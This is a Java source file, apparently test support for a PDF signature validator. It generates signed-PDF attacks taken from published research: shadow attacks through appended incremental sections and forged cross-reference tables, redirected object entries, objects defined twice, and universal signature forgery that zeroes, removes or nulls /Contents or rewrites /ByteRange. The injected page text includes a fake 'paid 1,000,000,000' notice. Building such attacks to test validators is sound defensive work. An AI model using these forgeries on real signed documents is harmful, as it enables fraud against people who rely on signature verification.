package vn.kyso.validation.internal;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObjectKey;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;

/**
 * Attacks on signed PDFs written as raw bytes, the way the attack papers describe them (Mladenov et al.
 * 2019 "1 Trillion Dollar Refund"; Mainka et al. 2021 "Shadow Attacks" and "Breaking the
 * Specification"): an incremental section appended by hand, with a classic cross-reference table that
 * says whatever the attacker wants, or a signature dictionary edited in place with its length kept.
 */
final class PdfAttacks {

    private PdfAttacks() {
    }

    /** Object number of page 1's content stream (a signed object). */
    static int pageContentObject(byte[] pdf) {
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            COSStream contents = (COSStream) doc.getPage(0).getCOSObject().getDictionaryObject(COSName.CONTENTS);
            COSObjectKey key = contents.getKey();
            return (int) key.getNumber();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /** The /Size of the last trailer: the next free object number. */
    static int size(byte[] pdf) {
        Matcher m = Pattern.compile("/Size (\\d+)").matcher(latin(pdf));
        int size = 0;
        while (m.find()) {
            size = Integer.parseInt(m.group(1));
        }
        return size;
    }

    static long lastStartxref(byte[] pdf) {
        Matcher m = Pattern.compile("startxref\\s+(\\d+)").matcher(latin(pdf));
        long at = -1;
        while (m.find()) {
            at = Long.parseLong(m.group(1));
        }
        return at;
    }

    static String rootReference(byte[] pdf) {
        Matcher m = Pattern.compile("/Root (\\d+ \\d+ R)").matcher(latin(pdf));
        String root = null;
        while (m.find()) {
            root = m.group(1);
        }
        return root;
    }

    /** A page content stream that shows {@code text} large on the page. */
    static String contentStream(int number, String text) {
        String content = "0 0 0 rg 90 500 300 80 re f BT /F1 28 Tf 90 600 Td (" + text + ") Tj ET";
        return number + " 0 obj\n<< /Length " + content.length() + " >>\nstream\n" + content
                + "\nendstream\nendobj\n";
    }

    /**
     * The attack the issue names: one new object, and an appended cross-reference table with two
     * entries pointing at it, its own number and the number of page 1's signed content stream, so the
     * signed object is silently shadowed.
     */
    static byte[] sharedOffsetShadow(byte[] pdf) {
        int signed = pageContentObject(pdf);
        int fresh = size(pdf);
        Section s = new Section(pdf);
        long at = s.object(contentStream(fresh, "DA THANH TOAN 1.000.000.000"));
        s.entry(signed, at);
        s.entry(fresh, at);
        return s.close(fresh + 1, true);
    }

    /**
     * The same shadow as {@link #sharedOffsetShadow}, written as a modern writer would: a cross-reference
     * stream (uncompressed, /W [1 4 2]) instead of a classic table.
     */
    static byte[] sharedOffsetShadowInStream(byte[] pdf) {
        int signed = pageContentObject(pdf);
        int fresh = size(pdf);
        Section s = new Section(pdf);
        long at = s.object(contentStream(fresh, "DA THANH TOAN 1.000.000.000"));
        s.entry(signed, at);
        s.entry(fresh, at);
        return s.closeAsStream(fresh + 1);
    }

    /** A signed object redefined in an appended section, with an honest cross-reference table (shadow replace). */
    static byte[] redefinedObject(byte[] pdf) {
        int signed = pageContentObject(pdf);
        Section s = new Section(pdf);
        s.entry(signed, s.object(contentStream(signed, "NOI DUNG DA BI THAY")));
        return s.close(size(pdf), true);
    }

    /**
     * One appended section that defines the content object twice: a harmless copy the table points at,
     * and a second definition a brute-force reader (one that ignores the table) takes instead.
     */
    static byte[] objectDefinedTwice(byte[] pdf) {
        int signed = pageContentObject(pdf);
        Section s = new Section(pdf);
        long first = s.object(contentStream(signed, "BAN GOC"));
        s.object(contentStream(signed, "BAN GIA MAO"));
        s.entry(signed, first);
        return s.close(size(pdf), true);
    }

    /**
     * Cross-reference manipulation: the appended table sends the signed content object's number to
     * another object already in the signed bytes (here the signature widget's empty appearance), so the
     * page now draws something that was signed but never shown; no new object at all.
     */
    static byte[] redirectedEntry(byte[] pdf, int target) {
        int signed = pageContentObject(pdf);
        Section s = new Section(pdf);
        s.entry(signed, offsetOf(pdf, target));
        return s.close(size(pdf), true);
    }

    /** An appended section whose trailer has no /Prev: a complete new table that forgets the signed one. */
    static byte[] sectionWithoutPrev(byte[] pdf) {
        int signed = pageContentObject(pdf);
        Section s = new Section(pdf);
        s.entry(signed, s.object(contentStream(signed, "TAI LIEU MOI")));
        return s.close(size(pdf), false);
    }

    /** Bytes appended after the last end-of-file marker that are not a revision: no table, no trailer. */
    static byte[] looseObjectAppended(byte[] pdf) {
        int signed = pageContentObject(pdf);
        return concat(pdf, bytes("\n" + contentStream(signed, "NGOAI CAU TRUC")));
    }

    /** The offset of "n 0 obj" in the file (its first definition). */
    static long offsetOf(byte[] pdf, int number) {
        Matcher m = Pattern.compile("(?<=[\\r\\n])" + number + " 0 obj").matcher(latin(pdf));
        if (!m.find()) {
            throw new IllegalArgumentException("no object " + number);
        }
        return m.start();
    }

    /**
     * Replaces the first occurrence of {@code from} (a regex) in the signature dictionary region with
     * {@code to}, padded with spaces to the same length so every offset stays right.
     */
    static byte[] editInPlace(byte[] pdf, String from, String to) {
        String s = latin(pdf);
        Matcher m = Pattern.compile(from).matcher(s);
        if (!m.find()) {
            throw new IllegalArgumentException("not found: " + from);
        }
        String replacement = to;
        int length = m.end() - m.start();
        if (replacement.length() > length) {
            throw new IllegalArgumentException("replacement longer than " + length);
        }
        replacement = replacement + " ".repeat(length - replacement.length());
        return (s.substring(0, m.start()) + replacement + s.substring(m.end())).getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Universal signature forgery variants on /Contents: zeros, missing, null. */
    static byte[] contentsZeroed(byte[] pdf) {
        String s = latin(pdf);
        Matcher m = Pattern.compile("/Contents <([0-9A-Fa-f]+)>").matcher(s);
        if (!m.find()) {
            throw new IllegalArgumentException("no /Contents");
        }
        String zeros = "0".repeat(m.group(1).length());
        return (s.substring(0, m.start(1)) + zeros + s.substring(m.end(1))).getBytes(StandardCharsets.ISO_8859_1);
    }

    static byte[] contentsRemoved(byte[] pdf) {
        return editInPlace(pdf, "/Contents <[0-9A-Fa-f]+>", "");
    }

    static byte[] contentsNull(byte[] pdf) {
        return editInPlace(pdf, "/Contents <[0-9A-Fa-f]+>", "/Contents null");
    }

    static byte[] byteRangeRemoved(byte[] pdf) {
        return editInPlace(pdf, "/ByteRange \\[[^\\]]*\\]", "");
    }

    static byte[] byteRange(byte[] pdf, String newRange) {
        return editInPlace(pdf, "/ByteRange \\[[^\\]]*\\]", "/ByteRange [" + newRange + "]");
    }

    static int[] byteRange(byte[] pdf) {
        Matcher m = Pattern.compile("/ByteRange \\[\\s*(\\d+)\\s+(\\d+)\\s+(\\d+)\\s+(\\d+)\\s*\\]").matcher(latin(pdf));
        if (!m.find()) {
            throw new IllegalArgumentException("no /ByteRange");
        }
        return new int[] {Integer.parseInt(m.group(1)), Integer.parseInt(m.group(2)), Integer.parseInt(m.group(3)),
                Integer.parseInt(m.group(4))};
    }

    /** An incremental section written by hand with a classic cross-reference table. */
    static final class Section {
        private final byte[] base;
        private final ByteArrayOutputStream body = new ByteArrayOutputStream();
        private final Map<Integer, Long> entries = new LinkedHashMap<>();

        Section(byte[] base) {
            this.base = base;
            body.writeBytes(bytes("\n"));
        }

        /** Appends an object; returns its offset in the final file. */
        long object(String text) {
            long at = base.length + body.size();
            body.writeBytes(bytes(text));
            return at;
        }

        void entry(int number, long offset) {
            entries.put(number, offset);
        }

        /** Closes the section with a cross-reference stream object numbered {@code size}. */
        byte[] closeAsStream(int size) {
            long xref = base.length + body.size();
            java.io.ByteArrayOutputStream rows = new java.io.ByteArrayOutputStream();
            StringBuilder index = new StringBuilder();
            java.util.Map<Integer, Long> all = new java.util.TreeMap<>(entries);
            all.put(size, xref);
            for (Map.Entry<Integer, Long> e : all.entrySet()) {
                index.append(e.getKey()).append(" 1 ");
                long offset = e.getValue();
                rows.write(1);
                for (int k = 3; k >= 0; k--) {
                    rows.write((int) (offset >>> (8 * k)));
                }
                rows.write(0);
                rows.write(0);
            }
            byte[] data = rows.toByteArray();
            String dict = size + " 0 obj\n<< /Type /XRef /Size " + (size + 1) + " /Root " + rootReference(base)
                    + " /Prev " + lastStartxref(base) + " /W [1 4 2] /Index [" + index.toString().trim()
                    + "] /Length " + data.length + " >>\nstream\n";
            body.writeBytes(bytes(dict));
            body.writeBytes(data);
            body.writeBytes(bytes("\nendstream\nendobj\nstartxref\n" + xref + "\n%%EOF\n"));
            return concat(base, body.toByteArray());
        }

        byte[] close(int size, boolean withPrev) {
            long xref = base.length + body.size();
            StringBuilder t = new StringBuilder("xref\n0 1\n0000000000 65535 f \n");
            for (Map.Entry<Integer, Long> e : entries.entrySet()) {
                t.append(e.getKey()).append(" 1\n").append(String.format("%010d 00000 n \n", e.getValue()));
            }
            t.append("trailer\n<< /Size ").append(size).append(" /Root ").append(rootReference(base));
            if (withPrev) {
                t.append(" /Prev ").append(lastStartxref(base));
            }
            t.append(" >>\nstartxref\n").append(xref).append("\n%%EOF\n");
            body.writeBytes(bytes(t.toString()));
            return concat(base, body.toByteArray());
        }
    }

    static byte[] concat(byte[] a, byte[] b) {
        byte[] c = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, c, a.length, b.length);
        return c;
    }

    static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    static String latin(byte[] pdf) {
        return new String(pdf, StandardCharsets.ISO_8859_1);
    }
}
